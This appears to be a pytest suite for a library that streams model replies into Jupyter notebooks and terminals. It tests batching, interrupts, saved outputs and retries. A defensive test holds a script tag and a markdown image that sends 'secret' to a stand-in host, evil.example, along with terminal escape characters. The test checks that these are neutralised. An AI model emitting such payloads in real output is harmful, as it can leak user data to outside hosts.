"""live() in real kernels and in a terminal: what is painted, what is kept, what an interrupt leaves."""

from __future__ import annotations

import contextlib
import io
import json
import os
import signal
import subprocess
import sys
import threading

import nbformat
import pytest
from jupyter_client.manager import start_new_kernel
from nbclient import NotebookClient

import bedrock_nb as nb
from bedrock_nb.errors import IncompleteStreamError, RequestError
from bedrock_nb.events import MessageStart, TextDelta
from bedrock_nb.recording import Recording
from bedrock_nb.server import INSTANT, BedrockServer, faults
from tests.chatting import said, use

HOSTILE = "Look: <script>alert(1)</script> ![x](https://evil.example/?q=secret) **bold**"


def words(count: int, *, every: float = 0.0):
    """A responder that answers in so many words, one delta each."""

    def responder(request):
        recording = Recording(clock="schedule")
        recording.append(MessageStart("assistant"), 0.0)
        for i in range(count):
            recording.append(TextDelta(0, f"word{i} "), i * every + 1e-6)
        return recording

    return responder


@pytest.fixture(scope="module")
def endpoint():
    """An embedded server whose answers come at once."""
    with BedrockServer(latency=INSTANT) as server:
        yield server.endpoint_url


@pytest.fixture
def kernel():
    """A real kernel and its client."""
    manager, client = start_new_kernel()
    yield manager, client
    client.stop_channels()
    manager.shutdown_kernel(now=True)


def run(client, code: str, *, on_message=lambda message: None) -> list[dict]:
    """Execute code in a kernel; every iopub message of it, in order."""
    asked, messages = client.execute(code), []
    while True:
        message = client.get_iopub_msg(timeout=60)
        if message["parent_header"].get("msg_id") != asked:
            continue
        messages.append(message)
        on_message(message)
        if message["msg_type"] == "status" and message["content"]["execution_state"] == "idle":
            return messages


def set_up(url: str) -> str:
    return f"import bedrock_nb as nb\nclient = nb.connect({url!r}, verbose=False)"


def of(kind: str, messages: list[dict]) -> list[dict]:
    return [message["content"] for message in messages if message["msg_type"] == kind]


def test_a_burst_is_shown_in_few_messages(kernel):
    """5,000 deltas at once: at most 15 messages, the whole text in the last display, the live one blank.

    What the painting took is in the recording.
    """
    _, client = kernel
    with BedrockServer(words(5_000), latency=INSTANT) as server:
        run(client, set_up(server.endpoint_url))
        messages = run(
            client,
            "import contextlib\nreply = nb.stream(client, 'x')\n"
            "with contextlib.suppress(nb.errors.IncompleteStreamError):\n    nb.live(reply)",
        )
    assert len(messages) <= 15
    displays, updates = of("display_data", messages), of("update_display_data", messages)
    assert displays[0]["data"]["text/html"] == ""
    assert "word0 " in displays[-1]["data"]["text/plain"]
    assert "word4999" in displays[-1]["data"]["text/html"]
    assert updates[-1]["data"] == {"text/html": "", "text/plain": ""}
    assert updates[-1]["transient"] == displays[0]["transient"]
    assert of("stream", run(client, "print(reply.recording.spent['display_s'] > 0)"))[0]["text"] == "True\n"


def test_what_was_painted_last_is_what_is_saved(endpoint):
    """A saved notebook holds an empty output and the final rendering, and nothing that differs on a rerun."""
    cells = [
        nbformat.v4.new_code_cell(set_up(endpoint)),
        nbformat.v4.new_code_cell("_ = nb.live(nb.stream(client, 'Tell me about rainbows'))"),
    ]
    saved = []
    for _ in range(2):
        notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(c.source) for c in cells])
        NotebookClient(notebook, timeout=60).execute()
        saved.append([(out["output_type"], out["data"]) for out in notebook.cells[1].outputs])
    assert saved[0] == saved[1]
    assert saved[0][0] == ("display_data", {"text/html": "", "text/plain": ""})
    assert "<strong>" in saved[0][1][1]["text/html"]
    assert len(saved[0]) == 2


def test_an_interrupt_keeps_the_partial_text(kernel):
    """Interrupting a cell shows what came, closes the reply, and leaves the kernel usable."""
    manager, client = kernel
    with BedrockServer(words(1_000, every=0.05), latency=INSTANT) as server:
        run(client, set_up(server.endpoint_url))

        def interrupt(message):
            if message["msg_type"] == "update_display_data" and not interrupted:
                interrupted.append(True)
                manager.interrupt_kernel()

        interrupted: list[bool] = []
        messages = run(client, "reply = nb.stream(client, 'x')\nnb.live(reply)", on_message=interrupt)
        assert of("error", messages)[0]["ename"] == "KeyboardInterrupt"
        final = of("display_data", messages)[-1]["data"]["text/plain"]
        assert final.startswith("word0 ")
        assert "cancelled" in final
        after = run(client, "print(reply.status, reply.snapshot.text[:6])")
        assert of("stream", after)[0]["text"] == "cancelled word0 \n"


def test_hostile_text_is_shown_and_never_run(kernel):
    """HTML and images in an answer reach the page as text and as a link."""
    _, client = kernel

    def hostile(request):
        recording = Recording(clock="schedule")
        for event in (MessageStart("assistant"), TextDelta(0, HOSTILE)):
            recording.append(event, 0.0)
        return recording

    with BedrockServer(hostile, latency=INSTANT) as server:
        run(client, set_up(server.endpoint_url))
        messages = run(client, "nb.live(nb.stream(client, 'x'))")
    html = "".join(
        content["data"].get("text/html", "")
        for kind in ("display_data", "update_display_data")
        for content in of(kind, messages)
    )
    assert "<script" not in html
    assert "<img" not in html
    assert "<strong>bold</strong>" in html


def test_a_failed_reply_is_shown_and_then_raised():
    """Outside a notebook too, the text stays on the screen and the error is the caller's."""
    with BedrockServer(words(3), latency=INSTANT) as server:
        out = io.StringIO()
        with contextlib.redirect_stdout(out), pytest.raises(IncompleteStreamError):
            nb.live(nb.stream(server.client(), "x"))
    assert out.getvalue() == "word0 word1 word2 \n"


def test_a_terminal_gets_plain_text_without_control_characters():
    """What a model writes cannot steer the terminal."""

    def escape(request):
        recording = Recording(clock="schedule")
        recording.append(TextDelta(0, "red \x1b[31m and \x07 bell"), 0.0)
        return recording

    with BedrockServer(escape, latency=INSTANT) as server:
        out = io.StringIO()
        with contextlib.redirect_stdout(out), pytest.raises(IncompleteStreamError):
            nb.live(nb.stream(server.client(), "x"))
    assert "\x1b" not in out.getvalue()
    assert "\x07" not in out.getvalue()
    assert "red " in out.getvalue()


def test_a_script_prints_as_it_comes(endpoint):
    """In a plain process there is no kernel: live prints, and returns the reply."""
    code = f"{set_up(endpoint)}\nreply = nb.live(nb.stream(client, 'hello'))\nprint(reply.status)"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert out.startswith("Hello!")
    assert out.endswith("complete\n")


@pytest.mark.parametrize("kind", ["conversation", "message"])
def test_a_conversation_is_shown_turn_by_turn(service, kind):
    """Who gives the whole conversation, or an answer, is told what to give."""
    chat = service.chat()
    with pytest.raises(RequestError, match=r"Write nb\.live\(chat\.stream\('…'\)\)"):
        nb.live(chat if kind == "conversation" else chat.send("Hello"))


@pytest.mark.parametrize("wrong", ["text", None, {"stream": []}], ids=json.dumps)
def test_something_else_than_a_reply_is_refused(wrong):
    """The error says what to write instead."""
    with pytest.raises(RequestError, match=r"nb\.live\(nb\.stream"):
        nb.live(wrong)


def test_an_answer_that_begins_anew_says_so_in_a_terminal():
    """What was printed of the first attempt cannot be taken back."""
    with BedrockServer(latency=INSTANT, faults=[faults.end(after=5)]) as server:
        reply = nb.stream(server.client(), "Count from 1 to 20", model="anthropic.claude-opus-4-6-v1:0")
        with pytest.raises(IncompleteStreamError):
            reply.drain()
        out = io.StringIO()
        with contextlib.redirect_stdout(out):
            whole = nb.live(reply.resume())
    first, _, second = out.getvalue().partition("\n\n[asked again from the start]\n\n")
    assert whole.text.startswith(first)
    assert second == whole.text + "\n"


def test_an_interrupt_says_where_the_reply_is():
    """An expression that was interrupted has given its reply no name."""
    with BedrockServer(faults=[faults.stall(after=5)], latency=INSTANT) as server:
        reply = nb.stream(server.client(), "Count from 1 to 20")
        threading.Timer(0.3, os.kill, [os.getpid(), signal.SIGINT]).start()
        with contextlib.redirect_stdout(io.StringIO()), pytest.raises(KeyboardInterrupt) as caught:
            nb.live(reply)
    assert "bedrock_nb.recordings[-1]" in caught.value.__notes__[0]
    assert nb.recordings[-1] is reply.recording
    assert reply.status == "cancelled"


def test_an_interrupt_of_a_turn_says_how_to_go_on():
    """What came of it is in the conversation."""
    with BedrockServer(faults=[faults.stall(after=5)], latency=INSTANT) as server:
        chat = nb.Conversation(server.client())
        turn = chat.stream("Count from 1 to 20")
        threading.Timer(0.3, os.kill, [os.getpid(), signal.SIGINT]).start()
        with contextlib.redirect_stdout(io.StringIO()), pytest.raises(KeyboardInterrupt) as caught:
            nb.live(turn)
    assert caught.value.__notes__ == [
        "What came is in the conversation: rerun() asks again, stream('…') goes on from there."
    ]
    assert turn.status == "cancelled"


def test_results_in_a_terminal_name_their_tool(service):
    """The result of a call is told as that of its tool."""

    @nb.tool
    def weather(city: str) -> str:
        """Look out of the window."""
        return f"sun in {city}"

    chat = service.chat(said(use("weather", {"city": "Rome"})), "Sunny.", tools=[weather])
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        turn = nb.live(chat.stream("Weather?"))
    assert "[Result of weather]\nsun in Rome\n" in out.getvalue()
    assert all(recording.spent["display_s"] > 0 for recording in turn.recordings)  # each has its own


def test_the_card_of_a_turn_says_what_to_do_with_it(service):
    """While it streams, how it is shown and read; there is no row without a value."""
    turn = service.chat().stream("Hello")
    card = turn._repr_html_()
    assert "streaming: nb.live(turn) shows it, turn.drain() reads it" in card
    assert "tool calls" not in card
    assert "output tokens" not in card
    card = turn.drain()._repr_html_()
    assert "complete, end_turn" in card
    assert "output tokens" in card
    assert "drain" not in card


def test_halves_that_come_in_two_deltas_are_printed_as_one():
    """A line end and a letter outside the first plane may be cut in two by the stream."""

    def halves(request):
        recording = Recording(clock="schedule")
        for text in ("a\r", "\nb", "\ud83d", "\ude00", "c\r"):
            recording.append(TextDelta(0, text), 0.0)
        return recording

    with BedrockServer(halves, latency=INSTANT) as server:
        out = io.StringIO()
        with contextlib.redirect_stdout(out), pytest.raises(IncompleteStreamError):
            nb.live(nb.stream(server.client(), "x"))
    assert out.getvalue() == "a\nb\N{GRINNING FACE}c\n\n"
